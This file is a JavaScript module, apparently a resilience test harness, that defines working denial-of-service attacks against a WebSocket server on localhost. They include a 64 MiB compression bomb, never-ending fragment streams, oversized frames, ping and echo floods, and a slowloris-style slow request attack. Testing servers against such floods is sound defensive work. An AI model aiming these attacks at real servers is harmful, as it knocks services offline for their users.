/** The attacks. Each takes a port, returns when it has no more to send, and says how many bytes it has sent. */

import { connect } from "node:net";
import { constants, deflateRawSync } from "node:zlib";

const MEBIBYTE = 1_048_576;
const REQUEST =
  "GET / HTTP/1.1\r\nHost: a\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n";
// An attack lasts at most so long, in milliseconds.
const LONGEST = 6_000;

const sleep = (length) => new Promise((resolve) => setTimeout(resolve, length));

/** Resolves at the first of these events, at an error, or after `length` milliseconds. */
function until(socket, length, ...events) {
  return new Promise((resolve) => {
    const done = () => {
      clearTimeout(timer);
      for (const event of all) socket.off(event, done);
      resolve();
    };
    const all = [...events, "close", "error"];
    const timer = setTimeout(done, length);
    for (const event of all) socket.on(event, done);
    if (socket.destroyed) done();
  });
}

/** A frame of a client with the masking key 0. */
function frame(first, payload, announced = payload.length) {
  const header =
    announced < 126
      ? [first, 0x80 | announced]
      : announced < 65_536
        ? [first, 0xfe, announced >> 8, announced & 255]
        : [first, 0xff, 0, 0, 0, 0, announced >>> 24, (announced >> 16) & 255, (announced >> 8) & 255, announced & 255];
  return Buffer.concat([Buffer.from([...header, 0, 0, 0, 0]), payload]);
}

/** A TCP connection. Errors and data are of no interest. */
async function opened(port) {
  const socket = connect(port, "127.0.0.1");
  socket.on("error", () => {});
  await until(socket, LONGEST, "connect");
  return socket;
}

async function upgraded(port, fields = "") {
  const socket = await opened(port);
  socket.write(`${REQUEST}${fields}\r\n`);
  await until(socket, LONGEST, "data");
  return socket;
}

/** Writes `chunk` so many times, as fast as the server takes it, until the server ends or time is over. */
async function flood(socket, chunk, times) {
  const end = performance.now() + LONGEST;
  for (let count = 0; count < times && !socket.destroyed && performance.now() < end; count += 1) {
    if (socket.write(chunk)) continue;
    await until(socket, end - performance.now(), "drain");
  }
  return Number(socket.bytesWritten) - socket.writableLength;
}

async function onMany(port, many, attack, fields) {
  const sockets = await Promise.all(Array.from({ length: many }, () => upgraded(port, fields)));
  const bytes = await Promise.all(sockets.map(attack));
  return { bytes: bytes.reduce((sum, one) => sum + one, 0), sockets };
}

/** A message that decompresses to 64 MiB of zeros. */
const BOMB = deflateRawSync(Buffer.alloc(64 * MEBIBYTE), { finishFlush: constants.Z_SYNC_FLUSH }).subarray(0, -4);

export const ATTACKS = {
  "a message of small fragments that does not end": (port) =>
    onMany(port, 4, (socket) => {
      socket.resume();
      socket.write(frame(0x02, Buffer.from("a")));
      const fragments = Buffer.concat(Array.from({ length: 1_000 }, () => frame(0x00, Buffer.from("a"))));
      return flood(socket, fragments, 300);
    }),
  "a compressed message of 64 MiB of zeros": (port) =>
    onMany(
      port,
      4,
      (socket) => flood(socket.resume(), frame(0xc2, BOMB), 1),
      "Sec-WebSocket-Extensions: permessage-deflate\r\n",
    ),
  "messages of 15 MiB of which 4 MiB are sent": (port) =>
    onMany(port, 20, (socket) => {
      socket.resume();
      socket.write(frame(0x82, Buffer.alloc(0), 15 * MEBIBYTE));
      return flood(socket, Buffer.alloc(65_536), 64);
    }),
  "Pings whose Pongs are not read": (port) =>
    onMany(port, 4, (socket) => {
      socket.pause();
      const pings = Buffer.concat(Array.from({ length: 500 }, () => frame(0x89, Buffer.alloc(125))));
      return flood(socket, pings, 500);
    }),
  "messages whose echoes are not read": (port) =>
    onMany(port, 4, (socket) => {
      socket.pause();
      return flood(socket, frame(0x82, Buffer.alloc(65_536)), 1_000);
    }),
  "requests that are sent one byte at a time": async (port) => {
    const sockets = await Promise.all(Array.from({ length: 500 }, () => opened(port)));
    const end = performance.now() + 2 * LONGEST;
    for (let at = 0; performance.now() < end; at += 1) {
      for (const socket of sockets) if (!socket.destroyed) socket.resume().write(REQUEST[at % REQUEST.length]);
      await sleep(200);
    }
    return { bytes: sockets.reduce((sum, socket) => sum + socket.bytesWritten, 0), sockets };
  },
};
